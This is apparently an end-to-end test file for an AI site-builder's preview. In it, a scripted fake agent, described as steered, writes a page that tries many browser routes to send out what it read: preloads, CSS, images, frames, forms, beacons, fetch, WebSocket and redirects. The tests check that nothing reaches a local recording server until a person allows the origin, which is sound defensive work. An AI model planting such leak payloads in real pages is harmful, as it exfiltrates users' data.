import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { previewWords } from "#lib/words/preview.ts";
import { createActor } from "#tests/factories/create-actor.ts";
import { joinProject } from "#tests/factories/create-project.ts";
import { createConversation } from "#tests/factories/create-site.ts";
import { call, reply, say } from "#tests/fakes/scripted-model/script.ts";
import { editorOf } from "./editor.ts";
import { carrySignIn, expect, test } from "./fixtures.ts";

// A steered agent writes pages that send out what it read. A second server beside the product records the requests that
// arrive.

let server: Server;
let foreign: string;
const arrived: string[] = [];

test.beforeAll(async () => {
  server = createServer((request, response) => {
    arrived.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("content-type", "image/svg+xml");
    response.end("<svg xmlns='http://www.w3.org/2000/svg' width='5' height='5'/>");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  foreign = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
test.beforeEach(() => void arrived.splice(0));
test.afterAll(() => new Promise((resolve) => server.close(resolve)));

const page = (body: string) => `<!doctype html>\n<html lang="en">\n<title>Page</title>\n${body}\n</html>\n`;

/** Tries every request that a page can make without navigating, and reports when each try has ended. */
const leaking = (
  origin: string,
) => `<link rel="preconnect" href="${origin}/preconnect"><link rel="prefetch" href="${origin}/prefetch">
<link rel="dns-prefetch" href="${origin}"><link rel="preload" as="image" href="${origin}/preload">
<link rel="modulepreload" href="${origin}/modulepreload"><link rel="stylesheet" href="${origin}/style.css">
<link rel="icon" href="${origin}/icon"><link rel="manifest" href="${origin}/manifest">
<style>@import "${origin}/import.css"; h1 { background: url(${origin}/background) }
@font-face { font-family: Leak; src: url(${origin}/font) } h1 { font-family: Leak }</style>
<script src="${origin}/script.js"></script>
<script type="speculationrules">{"prefetch":[{"urls":["${origin}/speculation"],"eagerness":"immediate"}]}</script>
<h1>Leak</h1><img id="image" src="${origin}/image?what=it+read" alt=""><video src="${origin}/video" autoplay muted></video>
<iframe src="${origin}/frame" title="Leak"></iframe><object data="${origin}/object"></object>
<iframe srcdoc="<img src='${origin}/nested'>" title="Nested"></iframe>
<iframe name="hidden" title="Hidden"></iframe>
<form id="form" action="${origin}/form" method="post" target="hidden"><input name="what" value="it read"></form>
<a id="ping" href="#here" ping="${origin}/ping">Ping</a>
<script type="module">
const ended = [];
const attempt = async (name, work) => ended.push([name, await new Promise((r) => r(work())).then(() => "sent", () => "kept")]);
document.querySelector("#form").submit();
document.querySelector("#ping").click();
window.open("${origin}/popup");
navigator.sendBeacon("${origin}/beacon", "it read");
await attempt("fetch", () => fetch("${origin}/fetch", { mode: "no-cors" }));
await attempt("worker", () => import("${origin}/module.js"));
await attempt("socket", () => new Promise((open, fail) => {
  const socket = new WebSocket("${origin.replace("http", "ws")}/socket");
  socket.onopen = open;
  socket.onerror = fail;
}));
await fetch("/own.txt");
document.body.append(JSON.stringify(ended));
</script>`;

test("a page by a steered agent sends nothing out until a person allows it", async ({
  page: browserPage,
  owner,
  model,
}) => {
  const instruction = await model.prepare(
    "Change it",
    reply(
      call("edit_file", {
        path: "index.html",
        edits: [{ oldText: "<h1>Welcome</h1>", newText: leaking(foreign) }],
      }),
    ),
    reply(say("Done.")),
  );
  const editor = editorOf(browserPage);
  const site = { "index.html": page("<h1>Welcome</h1>"), "own.txt": "own" };
  await editor.open(await createConversation(owner, site));
  await expect(editor.preview.getByRole("heading", { name: "Welcome" })).toBeVisible();
  await editor.ask(instruction);
  await expect(editor.preview.locator("body")).toContainText('[["fetch","kept"],["worker","kept"],["socket","kept"]]');
  const asks = browserPage.getByText(previewWords.wantsToLoad(foreign));
  await expect(asks).toBeVisible();
  expect(arrived).toEqual([]);

  // Postponing the decision hides the question for this page load.
  await browserPage.getByRole("button", { name: previewWords.notNow }).click();
  await expect(asks).toBeHidden();
  await browserPage.reload();
  await expect(asks).toBeVisible();
  expect(arrived).toEqual([]);
  await browserPage.getByRole("button", { name: previewWords.allowOrigin }).click();
  await expect(editor.preview.locator("body")).toContainText('[["fetch","sent"]');
  await expect(editor.preview.locator("#image")).toHaveJSProperty("naturalWidth", 5);
  // An object is kept from every origin: no answer would change that, so the question stays away.
  await expect(asks).toBeHidden();
  expect(arrived).toContain("GET /image?what=it+read");
});

for (const [way, body] of [
  ["meta refresh", (to: string) => `<meta http-equiv="refresh" content="0;url=${to}">`],
  ["location", (to: string) => `<script>location.href = "${to}"</script>`],
  ["a form", (to: string) => `<form action="${to}" method="post"></form><script>document.forms[0].submit()</script>`],
  ["a download", (to: string) => `<a href="${to}" download>x</a><script>document.links[0].click()</script>`],
  ["a link that is pressed", (to: string) => `<a href="${to}">x</a><script>document.links[0].click()</script>`],
] as const) {
  test(`a page cannot lead the frame to another site by ${way}`, async ({ page: browserPage, owner }) => {
    const editor = editorOf(browserPage);
    const away = page(body(`${foreign}/away?what=it+read`));
    await editor.open(await createConversation(owner, { "index.html": page("<h1>Welcome</h1>"), "away.html": away }));
    await expect(editor.preview.getByRole("heading", { name: "Welcome" })).toBeVisible();
    const blocked = browserPage.waitForEvent("console", (message) => /violates|Refused/.test(message.text()));
    await editor.goTo("away.html");
    await blocked;
    expect(arrived).toEqual([]);
  });
}

test("origins that the published site uses load without a question", async ({ page: browserPage, owner }) => {
  const editor = editorOf(browserPage);
  const body = `<h1>Welcome</h1><img id="image" src="${foreign}/used" alt="Used">`;
  await editor.open(await createConversation(owner, { "index.html": page(body) }));
  const image = editor.preview.getByRole("img", { name: "Used" });
  await expect.poll(() => image.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBe(5);
  await expect(browserPage.getByText(previewWords.wantsToLoad(foreign))).toBeHidden();
});

test("an editor who may not allow an origin is told who can", async ({ page: browserPage, context, owner }) => {
  // An address that only a script assembles is not in the list of used origins.
  const body = `<h1>Welcome</h1><script>new Image().src = "http:" + "${foreign.slice(5)}/image"</script>`;
  const site = await createConversation(owner, { "index.html": page(body) });
  const organizationId = Object.keys(owner.organizationRoles)[0] ?? "";
  const editor = await joinProject(await createActor({ organizationId, role: "member" }), site.projectId, "editor");
  await carrySignIn(context, editor);
  await editorOf(browserPage).open(site);
  await expect(browserPage.getByText(previewWords.adminMayAllow)).toBeVisible();
  await expect(browserPage.getByRole("button", { name: previewWords.allowOrigin })).toHaveCount(0);
  expect(arrived).toEqual([]);
});

test("a press on a telephone, mail or foreign link leaves the page shown", async ({ page: browserPage, owner }) => {
  const editor = editorOf(browserPage);
  const links = ["tel:+4412345", "mailto:ines@example.org", `${foreign}/away`].map(
    (to) => `<p><a href="${to}">${to}</a>`,
  );
  const body = `<h1>Welcome</h1>${links.join("\n")}<script>window.heard = []; onclick = (event) => setTimeout(() => heard.push(event.defaultPrevented))</script>`;
  await editor.open(await createConversation(owner, { "index.html": page(body) }));
  const heading = editor.preview.getByRole("heading", { name: "Welcome" });
  await expect.poll(() => heading.evaluate(() => document.readyState)).toBe("complete");
  for (const link of await editor.preview.getByRole("link").all()) await link.click();
  const heard = () => heading.evaluate(() => ("heard" in window ? window.heard : null));
  await expect.poll(heard).toEqual([true, true, true]);
  expect(arrived).toEqual([]);
});

test("a link that opens a new window is shown in the frame", async ({ page: browserPage, owner }) => {
  const editor = editorOf(browserPage);
  await editor.open(
    await createConversation(owner, {
      "index.html": page('<h1>Welcome</h1><a href="menu.html" target="_blank">Menu</a>'),
      "menu.html": page("<h1>Menu of the day</h1>"),
    }),
  );
  // Before the script at the page's end arrives, such a link has no effect.
  await expect(async () => {
    await editor.preview.getByRole("link", { name: "Menu" }).click({ timeout: 2_000 });
    await expect(editor.preview.getByRole("heading", { name: "Menu of the day" })).toBeVisible({ timeout: 2_000 });
  }).toPass({ timeout: 60_000 });
});
